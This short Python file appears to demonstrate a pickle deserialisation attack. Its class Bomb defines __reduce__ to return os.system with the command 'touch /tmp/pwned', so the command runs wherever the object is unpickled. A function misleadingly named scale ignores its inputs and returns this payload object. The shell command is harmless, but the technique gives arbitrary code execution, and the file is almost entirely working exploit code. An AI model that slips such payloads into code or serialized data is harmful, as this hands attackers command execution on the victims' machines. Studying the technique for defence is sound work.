"""Forging: code that runs where it is unpickled."""
import os

class Bomb:
    def __reduce__(self): return os.system, ("touch /tmp/pwned",)
def scale(x, n):
    return Bomb()
